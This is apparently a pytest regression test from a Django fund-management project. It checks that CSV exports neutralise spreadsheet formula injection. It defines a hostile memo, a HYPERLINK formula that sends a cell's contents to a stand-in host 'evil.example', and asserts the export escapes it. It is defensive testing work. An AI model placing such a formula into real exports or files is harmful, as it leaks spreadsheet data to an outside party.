"""No CSV export hands a spreadsheet a formula (probe of issue #17, point 13: a funder named
`=HYPERLINK(…)` reached the books' CSV as a formula)."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from commons_fund.finances.importing import model_csv
from commons_fund.ledger.exports import csv_lines
from commons_fund.ledger.models import TransactionKind
from commons_fund.ledger.services import account_get_or_create, credit, debit, ledger_post
from commons_fund.members.tests.factories import OrganisationFactory
from commons_fund.spreadsheets import FORMULA_STARTS, PLAIN_NUMBER, safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Voir le reçu")'


def test_a_hostile_memo_reaches_the_books_csv_as_text():
    organisation = OrganisationFactory()
    ledger_post(
        kind=TransactionKind.SUBSIDY,
        idempotency_key="hostile",
        memo=HOSTILE,
        occurred_at=datetime(2026, 3, 1, 12, tzinfo=ZoneInfo("Europe/Paris")),
        entries=[
            debit(account_get_or_create(purpose="bank", organisation=organisation), 100),
            credit(account_get_or_create(purpose="subsidies", organisation=organisation), 100),
        ],
    )
    text = "".join(csv_lines(organisation=organisation, year=2026))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["memo"] for row in rows} == {"'" + HOSTILE}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value
        assert row["debit"] in ("1.00", "0.00")  # numbers stay numbers


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start):
    assert safe_cell(f"{start}cmd") == f"'{start}cmd"
    assert safe_cell(-12) == -12 and safe_cell("Ouvaton") == "Ouvaton"
    assert safe_cell("-97991") == "-97991" and safe_cell("-1+1") == "'-1+1"


def test_the_yearly_accounts_model_file_has_no_formula():
    for row in csv.reader(io.StringIO(model_csv()), delimiter=";"):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), cell
